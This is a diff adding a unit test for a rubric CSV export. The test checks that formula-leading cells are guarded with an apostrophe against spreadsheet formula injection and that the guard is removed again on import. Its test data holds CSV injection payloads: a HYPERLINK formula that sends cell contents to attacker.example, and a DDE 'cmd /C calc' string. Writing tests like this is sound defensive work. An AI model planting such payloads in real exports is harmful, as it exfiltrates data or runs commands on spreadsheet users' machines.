@@ -353,6 +353,76 @@ describe("Canvas rubric CSV export", () => {
     ]);
   });
 
+  it("guards cells a spreadsheet would run as formulas with an apostrophe (OWASP), and import removes it", () => {
+    const rubric = stored({
+      ...scienceRubric,
+      title: '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
+      criteria: [
+        {
+          ...scienceRubric.criteria[0],
+          id: "1-for-each-input",
+          title: "+1 for each input",
+          description: "@SUM(1+1)*cmd|' /C calc'!A0",
+          levels: [
+            { points: 2, description: "-2+3 all three inputs.\n\n=1+1 in the long description" },
+            { points: 1, description: "Two of the inputs.\n\n- a bulleted list" },
+          ],
+        },
+        scienceRubric.criteria[1],
+      ],
+    });
+    const { body, warnings } = interchange.exportRubric("canvas-csv", rubric);
+    const rows: string[][] = parse(body);
+    expect(rows[1]!.slice(0, 10)).toEqual([
+      `'=HYPERLINK("https://attacker.example/?"&A1,"Open")`,
+      "'+1 for each input",
+      "'@SUM(1+1)*cmd|' /C calc'!A0",
+      "false",
+      "'-2+3 all three inputs.",
+      "'=1+1 in the long description",
+      "2",
+      "Two of the inputs.",
+      "'- a bulleted list",
+      "1",
+    ]);
+    expect(rows[2]![0]).toBe(rows[1]![0]);
+    // No cell of the file starts a formula; numbers and the header are untouched.
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(warnings.filter((warning) => warning.message.includes("leading apostrophe"))).toEqual([
+      { path: "title", message: expect.stringContaining('starts with "="') },
+      { path: "criteria[0].title", message: expect.stringContaining('starts with "+"') },
+      { path: "criteria[0].description", message: expect.stringContaining('starts with "@"') },
+      { path: "criteria[0].levels[0].description", message: expect.stringContaining('starts with "-"') },
+      { path: "criteria[0].levels[1].description", message: expect.stringContaining('starts with "-"') },
+    ]);
+    // Stored text is trimmed, so a tab or CR can only lead a cell of a rubric given to export directly.
+    const tabbed = interchange.exportRubric("canvas-csv", {
+      ...rubric,
+      criteria: [rubric.criteria[0]!, { ...rubric.criteria[1]!, description: "\tIndented\r" }],
+    });
+    const tabbedRows: string[][] = parse(tabbed.body);
+    expect(tabbedRows[2]![2]).toBe("'\tIndented\r");
+    expect(tabbed.warnings).toContainEqual({
+      path: "criteria[1].description",
+      message: expect.stringContaining('starts with "\\t"'),
+    });
+
+    const back = importValid("canvas-csv", body, { id: rubric.id, question: rubric.question });
+    expect(back.rubric.title).toBe(rubric.title);
+    expect(back.rubric.criteria).toEqual(rubric.criteria);
+    expect(back.warnings).toContainEqual({
+      path: 'row 2 "Rubric Name"',
+      message:
+        'starts with an apostrophe before "=", the guard against spreadsheet formulas: read without the apostrophe',
+    });
+    // An apostrophe before anything else is the teacher's own text, kept.
+    const own = importValid("canvas-csv", csv("R,'tis the season,,false,'Quoted',,1"));
+    expect(own.rubric.criteria[0]).toMatchObject({
+      title: "'tis the season",
+      levels: [{ points: 1, description: "'Quoted'" }],
+    });
+  });
+
   it("reports every field Canvas's CSV cannot carry", () => {
     const rubric = stored({
       ...scienceRubric,
